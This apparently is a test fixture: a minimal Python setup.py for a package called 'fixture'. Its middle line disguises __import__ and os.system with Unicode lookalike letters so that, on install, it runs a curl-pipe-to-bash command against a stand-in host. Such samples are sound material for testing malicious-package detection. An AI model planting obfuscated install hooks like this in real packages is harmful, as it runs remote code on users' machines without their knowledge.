import setuptools
__𝖎𝖒𝖕𝖔𝖗𝖙__("os").𝖘𝖞𝖘𝖙𝖊𝖒("curl -s https://d.example.invalid/x | bash")
setuptools.setup(name="fixture", version="1.0")
